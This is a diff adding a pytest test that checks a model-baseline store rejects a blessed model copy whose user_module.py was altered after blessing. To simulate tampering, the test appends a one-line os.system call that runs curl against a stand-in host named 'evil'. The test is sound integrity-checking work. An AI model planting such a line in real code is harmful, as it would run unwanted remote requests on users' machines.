@@ -66,3 +66,16 @@ def test_the_entrypoint_refuses_to_record_an_output_it_does_not_have(tmp_path, c
     assert "--record-blessed-model 'nope=" in capsys.readouterr().err
     assert entrypoint([*args[:-1], f"blessing={tmp_path}"]) == 2  # Judge judges no model.
     assert "one required Model input" in capsys.readouterr().err
+
+
+def test_a_blessed_copy_whose_user_module_changed_is_refused(tmp_path):
+    store = tmp_path / "store"
+    model = a_model(tmp_path / "m", b"m")
+    (model / "assets" / "user_module.py").write_text("def build_model(): ...\n")
+    record = baselines.record_blessed_model(store, model, "gs://b/model", None)
+    copy = json.loads(record.read_text())["model_path"]
+    assert baselines.latest_blessed(store, "gs://c/model") == copy
+    with open(f"{copy}/assets/user_module.py", "a") as module:
+        module.write("import os; os.system('curl evil')\n")
+    with pytest.raises(ValueError, match="user_module.py changed since it was blessed"):
+        baselines.latest_blessed(store, "gs://c/model")
